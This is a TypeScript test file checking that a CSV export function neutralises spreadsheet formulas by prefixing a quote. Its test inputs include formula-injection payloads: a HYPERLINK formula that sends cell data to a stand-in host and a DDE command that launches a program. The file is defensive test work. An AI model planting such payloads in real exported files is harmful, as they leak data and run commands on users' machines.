import { parse } from 'csv-parse/sync';
import { csvStream, neutralizeFormula } from '../../../src/negotiation/reading/csv';

async function csvOf(rows: Record<string, unknown>[], columns: string[]): Promise<string> {
  let text = '';
  for await (const chunk of csvStream(rows, columns)) text += chunk;
  return text;
}

describe('CSV cells', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"x")'],
    ["+cmd|' /C calc'!A0"],
    ['@SUM(1+1)'],
    ['-2+3'],
    ['\tlead'],
    ['\rlead'],
  ])('neutralises %j with a leading quote', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it.each([['Reuters'], ['2025-04-17'], ['a=b'], ["O'Brien"], ['']])('leaves %j as it is', (text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });

  it('writes numbers Parley computes as they are, negative ones too, and text neutralised, in a file a CSV parser reads back', async () => {
    const text = await csvOf(
      [
        { value: -40, publisher: '=1+1', title: 'line one\nline two, "quoted"' },
        { value: 12.5, publisher: null, title: '-' },
      ],
      ['value', 'publisher', 'title'],
    );
    expect(parse(text, { columns: true })).toEqual([
      { value: '-40', publisher: "'=1+1", title: 'line one\nline two, "quoted"' },
      { value: '12.5', publisher: '', title: "'-" },
    ]);
  });
});
